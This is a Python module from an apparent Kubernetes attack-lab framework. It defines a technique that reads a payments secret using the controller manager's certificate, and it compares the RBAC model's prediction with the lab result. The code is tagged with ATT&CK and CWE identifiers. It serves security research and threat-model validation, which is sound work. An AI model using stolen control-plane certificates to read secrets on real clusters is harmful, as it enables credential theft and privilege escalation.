"""Read a secret with the certificate of the controller manager, which may read all of them.

That the controllers act by service accounts of their own takes nothing from the manager: it
makes their tokens and watches every kind of object for all of them, so RBAC lets it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.model import View
from labkit.model.rights import Action
from labkit.techniques._access import CHANNEL, api_url, may_all
from labkit.techniques._ask import ask
from labkit.techniques._base import OUTSIDE, SECRETS, Prediction, Technique
from labkit.techniques._controllers import KIND, own_accounts, own_work
from labkit.techniques._reach import Answer
from labkit.techniques._secret import true_secret
from labkit.techniques._verdict import Setting, Verdict
from labkit.techniques._worker import MASTER, caller, carried

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("payments", "card-processor", "api-key")
ACTION = Action("get", "secrets", namespace=WANTED[0], name=WANTED[1])


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: what the apiserver allows the controller manager."""
    return may_all(view, caller(view.env, KIND, MASTER), [ACTION])


def execute(lab: Lab, foothold: str) -> Verdict:
    """Ask for the secret with the controller manager's certificate."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the apiserver answered, but not with the secret")
        return f"with the certificate of the controller manager, read: {secret.proof}"

    with carried(lab, foothold, KIND, MASTER) as options:
        return ask(
            lab,
            TECHNIQUE.name,
            foothold,
            api_url(lab, f"/api/v1/namespaces/{WANTED[0]}/secrets/{WANTED[1]}"),
            options=options,
            proof=proof,
            control=lambda: own_work(lab, foothold, options),
        )


def _settings(env: Environment) -> list[Setting]:
    return [own_accounts(env)]


TECHNIQUE = Technique(
    name="controller-manager-credential",
    title="Read a secret with the controller manager's certificate",
    footholds=(OUTSIDE,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1552.004", "T1552.007"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-250", "CWE-269"),
    sources=(
        "Securing communications in Kubernetes (2016), Least privilege in Kubernetes APIs",
        "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#controller-roles",
        "https://attack.mitre.org/techniques/T1552/004/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
)
